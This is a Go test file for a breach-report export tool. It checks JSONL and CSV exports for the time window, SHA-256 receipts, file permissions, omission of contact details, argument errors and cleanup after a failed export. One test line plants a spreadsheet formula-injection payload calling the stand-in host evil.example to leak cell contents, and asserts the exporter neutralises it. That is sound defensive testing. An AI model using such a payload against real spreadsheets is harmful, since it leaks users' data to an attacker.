package main

import (
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/service/dynamodb"

	"github.com/breach-intake/intake/internal/breach"
	"github.com/breach-intake/intake/internal/dynamo"
	"github.com/breach-intake/intake/internal/export"
	"github.com/breach-intake/intake/internal/local"
	"github.com/breach-intake/intake/internal/local/localtest"
)

// TestExport: reports filed through the intake into the local stack's table (moto), then
// `breachctl export` in both formats: exactly the versions received in the window, every
// version of a supplemented report, in order; jsonl lines are the stored documents, each hashing
// to its receipt's sha256; the CSV rows carry the same digests and no contact details.
func TestExport(t *testing.T) {
	ctx := context.Background()
	cfg := localtest.Config(t, localtest.Moto(t)) // the environment points breachctl at it too
	tmpl, err := local.LoadTemplate("../../template.yaml")
	if err != nil {
		t.Fatal(err)
	}
	names, err := local.CreateResources(ctx, cfg, tmpl, local.StackName)
	if err != nil {
		t.Fatal(err)
	}
	store := dynamo.New(dynamodb.NewFromConfig(cfg), names["ReportsTable"])
	orgs := map[string]breach.Organisation{
		"nis2-health-ransomware.json": {ID: "chu-exemple", LegalName: "Centre Hospitalier Exemple", SIREN: "267500452", Country: "FR"},
		"processor-late.json":         {ID: "mutuelle-exemple", LegalName: "Mutuelle Exemple", SIREN: "775685019", Country: "FR"},
		"gdpr-minimal.json":           {ID: "boulangerie", LegalName: "Boulangerie Exemple SARL", Country: "FR"},
	}
	for _, o := range orgs {
		if _, err := store.PutOrganisation(ctx, o, time.Now()); err != nil {
			t.Fatal(err)
		}
	}
	var now time.Time
	intake := breach.NewIntake(store, func() time.Time { return now }, breach.ULIDs())
	body := func(file string, edit func(map[string]any)) []byte {
		t.Helper()
		b, err := os.ReadFile("../../internal/breach/testdata/" + file)
		if err != nil {
			t.Fatal(err)
		}
		if edit != nil {
			var m map[string]any
			if err := json.Unmarshal(b, &m); err != nil {
				t.Fatal(err)
			}
			edit(m)
			if b, err = json.Marshal(m); err != nil {
				t.Fatal(err)
			}
		}
		return b
	}
	type filed struct {
		id      breach.ReportID
		version int
		sha256  string
	}
	receiptOf := func(a breach.Accepted) filed {
		t.Helper()
		var rc struct {
			SHA256 string `json:"sha256"`
		}
		if err := json.Unmarshal(a.Receipt, &rc); err != nil || rc.SHA256 == "" {
			t.Fatalf("receipt %s: %v", a.Receipt, err)
		}
		return filed{a.ID, a.Version, rc.SHA256}
	}
	submit := func(at time.Time, file string, edit func(map[string]any)) filed {
		t.Helper()
		now = at
		a, err := intake.Submit(ctx, breach.Submission{Org: orgs[file].ID, IdempotencyKey: fmt.Sprint(file, at), Body: body(file, edit)})
		if err != nil {
			t.Fatalf("submit %s: %v", file, err)
		}
		return receiptOf(a)
	}

	day := time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC)
	before := submit(day.Add(-20*24*time.Hour), "processor-late.json", nil) // 1 November: outside the window
	ransomware := submit(day.Add(7*time.Hour+250*time.Millisecond), "nis2-health-ransomware.json", nil)
	late := submit(day.Add(8*time.Hour), "processor-late.json", func(m map[string]any) {
		// A hostile title: it must reach the CSV as text.
		m["incident"].(map[string]any)["title"] = `=HYPERLINK("http://evil.example/?"&A1,"-1+1")`
	})
	bakery := submit(day.Add(11*time.Hour), "gdpr-minimal.json", nil)
	// The ransomware report's notification, as a supplement: version 2.
	now = day.Add(20 * time.Hour)
	head, err := store.Head(ctx, orgs["nis2-health-ransomware.json"].ID, ransomware.id)
	if err != nil {
		t.Fatal(err)
	}
	supplement := body("nis2-health-ransomware.json", func(m map[string]any) {
		m["stage"] = "nis2.notification"
		m["data"].(map[string]any)["subjects_affected"] = 61000
	})
	a, err := intake.Supplement(ctx, head, breach.SupplementRequest{IdempotencyKey: "supplement-1", IfMatch: "1", Body: supplement})
	if err != nil {
		t.Fatal(err)
	}
	ransomware2 := receiptOf(a)
	after := submit(day.Add(24*time.Hour+time.Minute), "gdpr-minimal.json", nil) // 22 November: outside
	want := []filed{ransomware, late, bakery, ransomware2}

	ctl := func(args ...string) (string, string, error) {
		var stdout, stderr strings.Builder
		err := run(ctx, append(args, "--template", "../../template.yaml"), &stdout, &stderr)
		return stdout.String(), stderr.String(), err
	}
	window := []string{"export", "--since", "2026-11-21", "--until", "2026-11-22T00:00:00Z"}

	// jsonl, to a file.
	dir := t.TempDir()
	file := filepath.Join(dir, "export.jsonl")
	stdout, stderr, err := ctl(append(window, "--format", "jsonl", "--with-contacts", "--out", file)...)
	if err != nil {
		t.Fatalf("export jsonl: %v\n%s", err, stderr)
	}
	if stdout != "" {
		t.Errorf("stdout with --out: %q", stdout)
	}
	if !strings.Contains(stderr, "scanned 4 versions: done\n") || !strings.Contains(stderr, "] 4/4 100%  written ") ||
		!strings.Contains(stderr, "export [2026-11-21T00:00:00Z, 2026-11-22T00:00:00Z) jsonl with contact details to "+file+
			": 4 versions of 3 reports from 3 organisations, ") {
		t.Errorf("stderr:\n%s", stderr)
	}
	if fi, err := os.Stat(file); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("export file: %v, %v; want mode 0600", fi, err)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Errorf("%d files in the directory, want the export alone", len(entries))
	}
	jsonl, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(string(jsonl), "\n"), "\n")
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), jsonl)
	}
	for i, w := range want {
		sum := sha256.Sum256([]byte(lines[i]))
		if hex.EncodeToString(sum[:]) != w.sha256 {
			t.Errorf("line %d: SHA-256 differs from the receipt of %s v%d", i+1, w.id, w.version)
		}
		v, err := store.Version(ctx, w.id, w.version)
		if err != nil {
			t.Fatal(err)
		}
		if lines[i] != string(v.Document) {
			t.Errorf("line %d is not the stored document of %s v%d", i+1, w.id, w.version)
		}
	}

	for _, outside := range []filed{before, after} {
		if strings.Contains(string(jsonl), string(outside.id)) {
			t.Errorf("%s, received outside the window, exported", outside.id)
		}
	}

	// csv, on stdout.
	stdout, stderr, err = ctl(append(window, "--format", "csv")...)
	if err != nil {
		t.Fatalf("export csv: %v\n%s", err, stderr)
	}
	if !strings.Contains(stderr, "csv without contact details to stdout: 4 versions of 3 reports from 3 organisations, ") {
		t.Errorf("stderr:\n%s", stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1+len(want) || !slices.Equal(recs[0], export.Columns) {
		t.Fatalf("csv:\n%s", stdout)
	}
	col := func(name string) int { return slices.Index(export.Columns, name) }
	for i, w := range want {
		rec := recs[i+1]
		if rec[col("report_id")] != string(w.id) || rec[col("version")] != fmt.Sprint(w.version) || rec[col("sha256")] != w.sha256 {
			t.Errorf("row %d: %s v%s %s, want %s v%d %s", i+1, rec[col("report_id")], rec[col("version")], rec[col("sha256")], w.id, w.version, w.sha256)
		}
	}
	if got := recs[2][col("incident_title")]; got != `'=HYPERLINK("http://evil.example/?"&A1,"-1+1")` {
		t.Errorf("hostile title: %q", got)
	}
	if got := recs[4][col("stage")] + " " + recs[4][col("subjects_affected")]; got != "nis2.notification 61000" {
		t.Errorf("the supplement's row: %s", got)
	}
	if strings.Contains(stdout, "rssi@chu-exemple.fr") || strings.Contains(stdout, "Lefèvre") {
		t.Error("contact details in a csv without --with-contacts")
	}

	// Refusals, before any AWS call.
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"export", "--since", "2026-11-21", "--format", "jsonl"}, "add --with-contacts"},
		{[]string{"export", "--since", "2026-11-21"}, "--format is required"},
		{[]string{"export", "--since", "2026-11-21", "--format", "xlsx"}, `--format "xlsx": want csv or jsonl`},
		{[]string{"export", "--format", "csv"}, "--since is required"},
		{[]string{"export", "--since", "30d", "--format", "csv"}, "durations have no d"},
		{[]string{"export", "--since", "21/11/2026", "--format", "csv"}, "is neither a date (2026-11-01)"},
		{[]string{"export", "--since", "2026-11-22", "--until", "2026-11-21", "--format", "csv"}, "is empty"},
	} {
		if _, _, err := ctl(c.args...); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%v: %v, want an error with %q", c.args, err, c.want)
		}
	}
}

// TestExportToFileLeavesNothingOnFailure: a scan that fails half way (throttling, Ctrl-C) leaves
// neither the file nor its temporary part, and an existing file as it was.
func TestExportToFileLeavesNothingOnFailure(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "export.csv")
	doc := []byte(`{}`)
	sum := sha256.Sum256(doc)
	failing := func(_ context.Context, fn func(breach.Version) error) error {
		if err := fn(breach.Version{ReportID: "01KAZ3J8Q4V2M7X9R5T6Y1B0C1", Number: 1, Document: doc, SHA256: hex.EncodeToString(sum[:])}); err != nil {
			return err
		}
		return context.Canceled
	}
	if _, err := exportToFile(context.Background(), path, failing, export.Options{Format: export.JSONL}); err == nil {
		t.Fatal("no error")
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 0 {
		t.Fatalf("left %v", entries)
	}
	if err := os.WriteFile(path, []byte("earlier export\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := exportToFile(context.Background(), path, failing, export.Options{Format: export.JSONL}); err == nil {
		t.Fatal("no error")
	}
	if b, _ := os.ReadFile(path); string(b) != "earlier export\n" {
		t.Errorf("the existing file became %q", b)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
		t.Errorf("left %v", entries)
	}
}
